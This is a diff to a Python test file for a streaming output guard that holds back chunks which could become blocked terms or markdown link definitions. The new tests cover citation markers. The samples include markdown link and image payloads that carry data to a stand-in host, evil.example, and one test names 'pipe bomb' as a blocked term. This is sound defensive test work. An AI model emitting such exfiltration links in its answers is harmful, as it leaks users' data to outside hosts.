@@ -55,6 +55,14 @@ def test_only_the_tail_that_could_still_match_is_held() -> None:
     assert release_point(with_blocked_terms("pipe bomb"), "How to make a pipe ") == len("How to make a ")
 
 
+def test_a_citation_marker_that_begins_a_piece_holds_back_nothing_after_it() -> None:
+    # "[1]" begins the piece after "dawn ", so it stands at the piece's line start; "[1]." can never
+    # become a link reference definition ("[1]: url"), so the words after it leave one by one.
+    released, _ = feed_all(["Lift", "-off", " is", " at", " dawn", " [", "1", "].", " The", " pad", " is", " 39C"])
+    assert released == ["", "", "Lift-off ", "is ", "at ", "dawn ", "", "", "[1]. ", "The ", "pad ", "is ", "39C"]
+    assert release_point(GUARD, "[1]: https://evil.example/p?d=") == 0  # this one may still be a definition
+
+
 def test_every_output_rail_declares_its_streaming_tail() -> None:
     assert set(OutputRails.model_fields) == RAIL_TAILS.keys() | WHOLE_ANSWER_RAILS
     assert not RAIL_TAILS.keys() & WHOLE_ANSWER_RAILS
@@ -194,6 +202,7 @@ PROSE = [
     "A list:\n- one\n- two",
     "Prices: 10.50, 3-4 days (maybe).",
     "Is it? Yes!",
+    "Lift-off is at dawn [1]. The pad is 39C [2].",  # citation markers, as grounded answers cite chunks
     "Run `ls [x](y)` and ``a ` b`` now.",
     "Markdown, as written:\n```md\n![x](https://evil.example/p?d=aW4gYSBjb2RlIGJsb2NrIGl0IGlzIHRleHQ)\n```\n",
 ]
